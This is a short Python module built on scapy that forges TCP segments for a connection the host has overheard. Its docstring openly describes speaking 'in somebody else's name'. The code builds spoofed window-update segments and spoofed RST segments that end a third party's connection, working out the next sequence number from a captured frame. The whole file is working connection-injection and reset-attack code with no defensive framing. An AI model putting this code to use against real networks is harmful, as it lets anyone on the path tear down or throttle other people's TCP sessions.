"""Segments in somebody else's name: what a host that hears a conversation can put into it.

Nothing in TCP says who wrote a segment. Whoever knows the four numbers that name a connection, and the two that name a
place in its streams, may speak. All six stand in every segment that passes by.
"""

from scapy.layers.inet import IP, TCP
from scapy.layers.l2 import Ether


def window_update(frame: bytes, window: int) -> bytes:
    """What the sender of `frame` would say next to offer a window of `window`, which is what the field holds."""
    forged = _following(frame)
    forged[TCP].flags = "A"
    forged[TCP].window = window
    return bytes(forged)


def reset(frame: bytes, ahead: int = 0) -> bytes:
    """What the sender of `frame` would say next to end it all, its number too high by `ahead`."""
    forged = _following(frame)
    tcp = forged[TCP]
    tcp.flags, tcp.window, tcp.ack, tcp.options = "R", 0, 0, []
    tcp.seq = (tcp.seq + ahead) % (1 << 32)
    return bytes(forged)


def _following(frame: bytes) -> Ether:
    """A segment without payload, as it would follow `frame`; scapy fills in lengths and checksums."""
    heard = Ether(frame)
    ip, tcp = heard[IP], heard[TCP]
    taken = ip.len - 4 * ip.ihl - 4 * tcp.dataofs + ("S" in tcp.flags) + ("F" in tcp.flags)
    tcp.seq = (tcp.seq + taken) % (1 << 32)
    tcp.remove_payload()
    del ip.len, ip.chksum, tcp.chksum, tcp.dataofs
    return heard
